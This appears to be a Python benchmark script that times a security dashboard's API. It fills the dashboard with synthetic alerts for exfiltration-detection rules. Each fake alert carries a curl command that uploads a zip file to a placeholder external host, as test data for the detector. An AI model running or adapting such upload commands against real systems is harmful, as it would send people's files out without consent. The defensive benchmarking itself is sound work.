"""Dashboard latency for `scripts/bench`: the app's JSON API over HTTP with a store of N synthetic hits."""
from __future__ import annotations

import json
import random
import threading
import time
from types import SimpleNamespace

import requests
from werkzeug.serving import WSGIRequestHandler, make_server

from .appenv import app_runtime

RULES = ("t1048-002-seed", "t1048-002-rclone", "t1048-002-web-upload", "t1048-002-encrypted-connection",
         "t1048-002-smtps-script", "t1048-002-staging-signals", "t1048-002-transfer-credentials")
# What an analyst opens: the overview, one rule's newest hits, one host's newest hits (the tab's own calls).
PAGES = {"overview": "/api/overview",
         "hits_by_rule": "/api/hits?rule=t1048-002-rclone&suppressed=false&limit=50",
         "hits_by_host": "/api/hits?host=10.20.0.7&limit=50"}


class _Quiet(WSGIRequestHandler):
    def log(self, *args):   # one line per request would drown the figures
        pass


def fill(store, count: int, seed: int = 7) -> None:
    """`count` hits spread over 90 days, 500 hosts, the seven rules; one in ten suppressed."""
    rng = random.Random(seed)
    with store.db.transaction() as conn:
        window = conn.execute("INSERT INTO windows (rule_id, kind, start_ms, end_ms, status, planned_ms) "
                              "VALUES ('bench', 'hunt', 0, 1, 'done', 0)").lastrowid
    fields = json.dumps({"EventTime": "2026-11-01 00:00:00", "LogSource": "WindowsAuthServer @ host",
                         "ProcessName": "curl.exe", "CommandLine": "curl.exe -T C:\\x.zip https://u.example.net/"})
    enrichment = json.dumps({"tool": {"name": "curl", "family": "http"}, "risk": {"score": 55, "reasons": ["x"]},
                             "destination": {"ip": "203.0.113.9", "hostname": "u.example.net", "public": True},
                             "command_line_masked": "curl.exe -T C:\\data\\x.zip https://u.example.net/",
                             "state": "complete"})
    made = 0
    while made < count:
        batch = []
        for i in range(made, min(count, made + 20_000)):
            host = rng.randrange(500)
            batch.append({
                "identity": f"bench-{i}", "rule_id": RULES[i % len(RULES)],
                "event_time_ms": 1_790_000_000_000 + rng.randrange(90 * 86_400_000),
                "source_ip": f"10.20.{host // 250}.{host % 250 + 1}", "destination_ip": "203.0.113.9",
                "destination_port": 443, "username": f"CORP\\user{host}", "event_id": "1", "process_image": "curl.exe",
                "command_line": f"curl.exe -T C:\\data\\{i}.zip https://u.example.net/", "log_source_id": 1128,
                "qid": 5001800, "payload": "payload", "fields_json": fields, "enrichment_json": enrichment,
                "risk_score": 55, "suppressed": int(i % 10 == 0)})
        store.ledger.store_part(window, batch, 0)   # the pipeline's own insert: the tab's columns are filled too
        made += len(batch)


MIN_SAMPLES = 5


def p95_latencies(app_root: str, hit_count: int, requests_per_page: int, budget_s: float) -> dict:
    """p95 seconds per page of PAGES against a store of `hit_count` hits, served by the real Flask app:
    `requests_per_page` samples, or fewer (at least MIN_SAMPLES) once a page has used `budget_s` seconds."""
    from app import create_app
    runtime = app_runtime(SimpleNamespace(url="http://127.0.0.1:9", token="unused", ca_path=None), app_root,
                          scheduler_enabled=False)
    fill(runtime.store, hit_count)
    server = make_server("127.0.0.1", 0, create_app(runtime), threaded=True, request_handler=_Quiet)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    base, out = f"http://127.0.0.1:{server.server_port}", {}
    try:
        with requests.Session() as session:
            for name, path in PAGES.items():
                session.get(base + path, timeout=600).raise_for_status()   # warm the page cache and the connection
                times = []
                while len(times) < requests_per_page and (len(times) < MIN_SAMPLES or sum(times) < budget_s):
                    started = time.perf_counter()
                    session.get(base + path, timeout=600).raise_for_status()
                    times.append(time.perf_counter() - started)
                times.sort()
                out[name] = times[min(len(times) - 1, int(0.95 * len(times)))]
                out[name + "_samples"] = len(times)
    finally:
        server.shutdown()
        runtime.store.close()
    return out
